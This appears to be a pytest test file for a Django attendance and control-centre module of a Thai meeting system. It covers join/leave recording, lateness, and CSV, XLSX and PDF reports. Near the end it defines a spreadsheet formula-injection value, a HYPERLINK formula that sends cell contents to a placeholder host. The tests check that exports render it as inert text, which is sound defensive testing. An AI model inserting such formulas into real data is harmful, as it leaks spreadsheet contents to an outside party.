"""Attendance and the control centre: joins and leaves per site from the media server's participant list, the live
board (connected / not yet / left, since when, "n/m", the phone of a late site), and after the meeting the report
as CSV and as the attendee section of Thai minutes. Late = first connection more than 10 minutes after the start."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from districts.models import Site, Staff
from join import services, tasks
from join.links import site_marker
from join.models import ATTENDANCE_GRACE, Attendance, AttendancePoll, TestCall
from join.selectors import attendance_report
from meetings.backends.base import Participant
from meetings.backends.fake import FakeBackend
from tests.factories.meetings import site
from tests.services.janus import RawParticipant

from .conftest import HALL, KUMPHAWAPI, MUEANG, here, meeting_attended, pass_of

pytestmark = [pytest.mark.integration, pytest.mark.django_db]


def rows(meeting) -> dict[str, list[tuple]]:
    found: dict[str, list[tuple]] = {}
    for row in Attendance.objects.filter(meeting=meeting).select_related("site__district", "site__province"):
        found.setdefault(row.site.code if row.site_id else row.display, []).append((row.joined_at, row.left_at))
    return found


def test_joins_and_leaves_are_recorded_per_site_and_a_second_poll_changes_nothing(fake_server, schedule):
    meeting = schedule(sites=(MUEANG, KUMPHAWAPI))
    t0 = meeting.start - timedelta(minutes=5)
    record = services.attendance_record
    result = record(meeting_id=meeting.pk, present=here(HALL, MUEANG, guests=("ผู้ว่าราชการจังหวัด (มือถือ)",)), now=t0)
    assert sorted(result.joined) == sorted([site_marker(site(HALL)), site_marker(site(MUEANG)),
                                            "ผู้ว่าราชการจังหวัด (มือถือ)"])
    assert record(meeting_id=meeting.pk, present=here(HALL, MUEANG, guests=("ผู้ว่าราชการจังหวัด (มือถือ)",)),
                  now=t0 + timedelta(seconds=30)).joined == []

    t1 = t0 + timedelta(minutes=1)
    left = record(meeting_id=meeting.pk, present=here(HALL), now=t1).left
    assert sorted(left) == sorted([site_marker(site(MUEANG)), "ผู้ว่าราชการจังหวัด (มือถือ)"])
    t2 = t1 + timedelta(minutes=3)
    # Mueang comes back, twice over (a notebook and a phone): still one open connection for the site.
    record(meeting_id=meeting.pk, present=here(HALL, MUEANG, MUEANG), now=t2)
    found = rows(meeting)
    assert found[HALL] == [(t0, None)]
    assert found[MUEANG] == [(t0, t1), (t2, None)]
    assert found["ผู้ว่าราชการจังหวัด (มือถือ)"] == [(t0, t1)]
    assert KUMPHAWAPI not in found
    # A display name that claims a site not invited to this meeting is a guest, not that site.
    record(meeting_id=meeting.pk, present=[*here(HALL, MUEANG), Participant(id="7", display="4125 · นายูง")],
           now=t2 + timedelta(minutes=1))
    assert "4125 · นายูง" in rows(meeting)
    assert Attendance.objects.filter(meeting=meeting, site__district__code="4125").count() == 0


def test_late_is_a_first_connection_more_than_ten_minutes_after_the_start(fake_server, schedule):
    meeting = schedule(sites=(MUEANG, KUMPHAWAPI, "4105"))
    start = meeting.start
    services.attendance_record(meeting_id=meeting.pk, present=here(HALL), now=start - timedelta(minutes=20))
    services.attendance_record(meeting_id=meeting.pk, present=here(HALL, "4105"), now=start + timedelta(minutes=10))
    services.attendance_record(meeting_id=meeting.pk, present=here(HALL, "4105", MUEANG),
                               now=start + timedelta(minutes=10, seconds=1))
    services.attendance_record(meeting_id=meeting.pk, present=here(HALL, "4105", MUEANG),
                               now=start + timedelta(minutes=49))
    services.attendance_record(meeting_id=meeting.pk, present=here(HALL), now=start + timedelta(minutes=50))
    report = attendance_report(meeting=meeting, now=meeting.end + timedelta(hours=1))
    status = {row.site.code: row.status for row in report.sites}
    assert status == {HALL: "present", "4105": "present", MUEANG: "late", KUMPHAWAPI: "absent"}
    late = next(row for row in report.sites if row.site.code == MUEANG)
    assert late.minutes_late == 10
    assert late.connected_minutes == 40  # 10:01 to 50:00 after the start, rounded
    hall = next(row for row in report.sites if row.site.code == HALL)
    assert hall.connected_minutes == 60  # counted from the start to the end of the meeting
    assert hall.still_connected is True

    # Polling stopped for longer than two minutes: a connection ended when it was last seen, not when noticed.
    services.attendance_record(meeting_id=meeting.pk, present=[], now=start + timedelta(minutes=58))
    assert Attendance.objects.get(meeting=meeting, site=site(HALL)).left_at == start + timedelta(minutes=50)


def test_the_report_as_csv_and_as_the_attendee_section_of_thai_minutes(login, fake_server, schedule):
    meeting, _ = meeting_attended(schedule)
    start = meeting.start
    client = login(Staff.Role.SCHEDULER, HALL)

    html = client.get(reverse("join:attendance", kwargs={"pk": meeting.pk})).content.decode()
    came, absent, others = (html.split(heading, 1)[1] for heading in (
        "<h2>ผู้มาประชุม</h2>", "<h2>ผู้ไม่มาประชุม</h2>", "<h2>ผู้เข้าร่วมประชุม</h2>"))
    came = came.split("<h2>", 1)[0]
    absent = absent.split("<h2>", 1)[0]
    others = others.split("<h2>", 1)[0]
    assert site(HALL).name in came
    assert site(MUEANG).name in came
    assert "มาช้า 25 นาที" in came
    assert site(KUMPHAWAPI).name in absent
    assert site(KUMPHAWAPI).name not in came
    assert "สำนักงานสาธารณสุขจังหวัดอุดรธานี" in others
    assert "แขก · ผู้สังเกตการณ์" in others
    assert "เกิน 10 นาที" in html  # the rule is stated on the page
    assert str(start.year + 543) in html

    response = client.get(reverse("join:attendance-csv", kwargs={"pk": meeting.pk}))
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert lines[0] == ["รายงานการเข้าร่วมประชุม"]
    assert lines[1] == [meeting.title]
    header = next(i for i, row in enumerate(lines) if row[:1] == ["รหัสสถานที่"])
    table = lines[header:]
    assert table[0][:4] == ["รหัสสถานที่", "สถานที่", "บทบาท", "สถานะ"]
    by_code = {row[0]: row for row in table[1:] if row and row[0].isdigit()}  # a site per row, then notes
    assert by_code[HALL][3] == "มาประชุม"
    assert by_code[HALL][2] == "ประธาน"
    assert by_code[MUEANG][3] == "มาประชุม (ช้า)"
    assert by_code[MUEANG][6] == "25"
    assert by_code[KUMPHAWAPI][3] == "ไม่มาประชุม"
    assert any(row[1:2] == ["แขก · ผู้สังเกตการณ์"] for row in table[1:])
    from foundation.models import AuditEntry

    exported = AuditEntry.objects.get(action="export", target_id=str(meeting.pk))  # personal data: audited
    assert exported.detail == {"export": "attendance.csv", "rows": len(by_code)}

    # Days later the report is one click away from the control centre.
    with time_machine.travel(start + timedelta(days=3), tick=False):
        control = client.get(reverse("join:control")).content.decode()
    assert "รายงานการเข้าร่วมประชุม (30 วันที่ผ่านมา)" in control
    assert reverse("join:attendance", kwargs={"pk": meeting.pk}) in control


def test_the_control_centre_shows_who_is_connected_since_when_and_the_phone_of_a_late_site(
    login, fake_server, schedule
):
    Site.objects.filter(pk=site(KUMPHAWAPI).pk).update(contact_phone="042-999111")
    meeting = schedule(sites=(MUEANG, KUMPHAWAPI), title="ประชุมติดตามสถานการณ์")
    FakeBackend.set_participants(meeting.room.number, here(HALL, MUEANG))
    TestCall.objects.create(site=site(MUEANG), token="t" * 43, result=TestCall.Result.OK,
                            finished_at=meeting.start - timedelta(hours=2))
    client = login(Staff.Role.SCHEDULER, HALL)
    before = client.get(reverse("join:control")).content.decode()
    assert "0/3 เชื่อมต่อแล้ว" in before  # the page only reads: nobody asked the server yet
    assert "ยังไม่ได้ถามเซิร์ฟเวอร์ประชุม" in before
    assert not Attendance.objects.filter(meeting=meeting).exists()

    tasks.attendance_sweep()  # what beat runs every PRACHUM_ATTENDANCE_POLL_SECONDS
    page = client.get(reverse("join:control"))
    assert page.status_code == 200
    body = page.content.decode()
    assert 'hx-get="/meetings/join/control/board/"' in body
    assert "django_htmx/htmx-2.min.js" in body
    assert "2/3 เชื่อมต่อแล้ว" in body
    assert 'data-site="41" data-state="connected"' in body
    assert 'data-site="4101" data-state="connected"' in body
    assert 'data-site="4104" data-state="not_yet"' in body
    assert 'href="tel:042-999111"' in body
    assert "ทดสอบระบบแล้ว 1/3" in body
    assert sorted(rows(meeting)) == [HALL, MUEANG]  # the task's poll recorded them
    assert "ข้อมูลจากเซิร์ฟเวอร์ประชุมเมื่อ" in body

    FakeBackend.set_participants(meeting.room.number, here(HALL, KUMPHAWAPI))
    unchanged = client.get(reverse("join:control-board"), headers={"HX-Request": "true"}).content.decode()
    assert 'data-site="4101" data-state="connected"' in unchanged  # until the next poll
    tasks.attendance_sweep()
    board = client.get(reverse("join:control-board"), headers={"HX-Request": "true"})
    fragment = board.content.decode()
    assert "<html" not in fragment
    assert 'data-site="4101" data-state="left"' in fragment
    assert 'data-site="4104" data-state="connected"' in fragment
    assert "2/3 เชื่อมต่อแล้ว" in fragment


def test_a_media_server_that_does_not_answer_keeps_the_board_and_says_so(login, fake_server, schedule):
    meeting = schedule(sites=(MUEANG,))
    FakeBackend.set_participants(meeting.room.number, here(HALL, MUEANG))
    client = login(Staff.Role.SCHEDULER, HALL)
    tasks.attendance_sweep()
    FakeBackend.down = True
    assert "ติดต่อเซิร์ฟเวอร์สื่อไม่ได้" not in client.get(reverse("join:control-board")).content.decode()
    tasks.attendance_sweep()
    fragment = client.get(reverse("join:control-board")).content.decode()
    assert "ติดต่อเซิร์ฟเวอร์สื่อไม่ได้" in fragment
    assert "2/2 เชื่อมต่อแล้ว" in fragment  # the last known state stays


def test_the_board_warns_when_the_periodic_task_has_not_asked_for_a_while(login, fake_server, schedule):
    meeting = schedule(sites=(MUEANG,))
    FakeBackend.set_participants(meeting.room.number, here(HALL, MUEANG))
    client = login(Staff.Role.SCHEDULER, HALL)
    tasks.attendance_sweep()
    warning = "ข้อมูลผู้เชื่อมต่ออาจไม่เป็นปัจจุบัน"
    assert warning not in client.get(reverse("join:control-board")).content.decode()
    with time_machine.travel(timezone.now() + timedelta(seconds=31), tick=False):  # 3 x 10 s without a poll
        late = client.get(reverse("join:control-board")).content.decode()
    assert warning in late
    assert "2/2 เชื่อมต่อแล้ว" in late


def test_the_periodic_task_polls_meetings_in_their_window_and_closes_what_was_left_open(fake_server, schedule):
    meeting = schedule(sites=(MUEANG,))
    later = schedule(sites=(MUEANG,), starts_in=60 * 5)
    FakeBackend.set_participants(meeting.room.number, here(HALL, MUEANG))
    FakeBackend.set_participants(later.room.number, here(HALL))
    outcome = tasks.attendance_sweep()
    assert outcome["polled"] == 1  # the later meeting's window is not open yet
    assert sorted(rows(meeting)) == [HALL, MUEANG]
    assert rows(later) == {}
    poll = AttendancePoll.objects.get(meeting=meeting)  # when it asked, for the control centre
    assert (poll.error, abs(timezone.now() - poll.polled_at) < timedelta(minutes=1)) == ("", True)
    assert not AttendancePoll.objects.filter(meeting=later).exists()

    FakeBackend.reset()  # the server restarted and forgot everyone: nobody is polled in a room that vanished
    after = meeting.end + ATTENDANCE_GRACE + timedelta(minutes=1)
    with time_machine.travel(after, tick=False):
        outcome = tasks.attendance_sweep()
    assert outcome["closed_rows"] == 2
    assert all(left is not None for values in rows(meeting).values() for _joined, left in values)


def test_on_a_real_janus_a_participant_counts_for_the_pass_that_let_it_in_never_for_the_name_it_shows(
    login, janus, janus_server, schedule
):
    meeting = schedule(sites=(MUEANG, KUMPHAWAPI))  # its passes' tokens were added when its room was made
    room = meeting.room
    assert {pass_of(meeting, code).media_token for code in (HALL, MUEANG, KUMPHAWAPI)} <= janus.tokens()
    mueang_name = site_marker(site(MUEANG))
    # Kumphawapi's clerk, with Kumphawapi's link, shows Mueang's name; someone holding a token of no pass of this
    # meeting (another meeting's, say) shows the hall's name.
    kumphawapi = RawParticipant(janus, room.number, display=mueang_name, pin=room.pin,
                                token=pass_of(meeting, KUMPHAWAPI).media_token).enter()
    stranger = RawParticipant(janus, room.number, display=site_marker(site(HALL)), pin=room.pin).enter()
    try:
        result = services.attendance_poll(meeting_id=meeting.pk)
        assert result.ok
        # Counted for the pass that let it in; the stranger for nobody (a guest, by the name it showed).
        assert set(rows(meeting)) == {KUMPHAWAPI, site_marker(site(HALL))}
        assert Attendance.objects.get(meeting=meeting, site__isnull=False).display == mueang_name
        board = login(Staff.Role.SCHEDULER, HALL).get(reverse("join:control")).content.decode()
        unknown = board.split("ไม่ทราบว่ามาจากสถานที่ใด", 1)[1].split("</p>", 1)[0]  # the control centre says so
        assert site_marker(site(HALL)) in unknown
    finally:
        kumphawapi.leave()
        stranger.leave()
    result = services.attendance_poll(meeting_id=meeting.pk)
    assert set(result.left) == {mueang_name, site_marker(site(HALL))}
    [(joined, left)] = rows(meeting)[KUMPHAWAPI]
    assert left >= joined

    response = login(Staff.Role.SCHEDULER, HALL).get(reverse("join:attendance-csv", kwargs={"pk": meeting.pk}))
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header = next(i for i, row in enumerate(lines) if row[:1] == ["รหัสสถานที่"])
    by_code = {row[0]: row for row in lines[header + 1:] if row and row[0].isdigit()}
    assert (by_code[MUEANG][3], by_code[HALL][3]) == ("ไม่มาประชุม", "ไม่มาประชุม")  # the names claimed them
    assert by_code[KUMPHAWAPI][3].startswith("มาประชุม")


HOSTILE_GUEST = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'


@pytest.mark.parametrize("file_format", ["xlsx", "pdf"])
def test_the_report_as_xlsx_and_pdf_through_the_exporter_and_a_formula_never_runs(
    login, fake_server, schedule, file_format, tmp_path
):
    meeting, _ = meeting_attended(schedule)
    services.attendance_record(meeting_id=meeting.pk, present=here(HALL, guests=(HOSTILE_GUEST,)),
                               now=meeting.start + timedelta(minutes=30))
    client = login(Staff.Role.SCHEDULER, HALL)
    response = client.get(reverse("join:attendance-export", kwargs={"pk": meeting.pk, "file_format": file_format}))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="attendance-{meeting.pk}.{file_format}"'
    if file_format == "xlsx":
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
        by_code = {row[0]: row for row in cells if row and row[0] in {HALL, MUEANG, KUMPHAWAPI}}
        assert (by_code[MUEANG][3], by_code[MUEANG][6]) == ("มาประชุม (ช้า)", 25)
        assert by_code[KUMPHAWAPI][3] == "ไม่มาประชุม"
        guest = next(row for row in cells if row and row[1] and "HYPERLINK" in str(row[1]))
        assert guest[1] == "'" + HOSTILE_GUEST  # text, not a formula
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    else:
        import subprocess

        pdf = tmp_path / "attendance.pdf"
        pdf.write_bytes(response.content)
        text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                              check=True).stdout
        assert response.content.startswith(b"%PDF")
        for code in (HALL, MUEANG, KUMPHAWAPI):
            assert code in text
    from foundation.models import AuditEntry

    assert AuditEntry.objects.get(action="export", target_id=str(meeting.pk)).detail["export"] == (
        f"attendance.{file_format}")


def test_a_formula_in_a_guests_name_is_text_in_the_csv(login, fake_server, schedule):
    meeting, _ = meeting_attended(schedule)
    services.attendance_record(meeting_id=meeting.pk, present=here(HALL, guests=(HOSTILE_GUEST,)),
                               now=meeting.start + timedelta(minutes=30))
    response = login(Staff.Role.SCHEDULER, HALL).get(reverse("join:attendance-csv", kwargs={"pk": meeting.pk}))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[1] for row in rows if len(row) > 1 and "HYPERLINK" in row[1]] == ["'" + HOSTILE_GUEST]


def test_an_unknown_export_format_is_not_found(login, fake_server, schedule):
    meeting, _ = meeting_attended(schedule)
    client = login(Staff.Role.SCHEDULER, HALL)
    url = reverse("join:attendance-export", kwargs={"pk": meeting.pk, "file_format": "docx"})
    assert client.get(url).status_code == 404
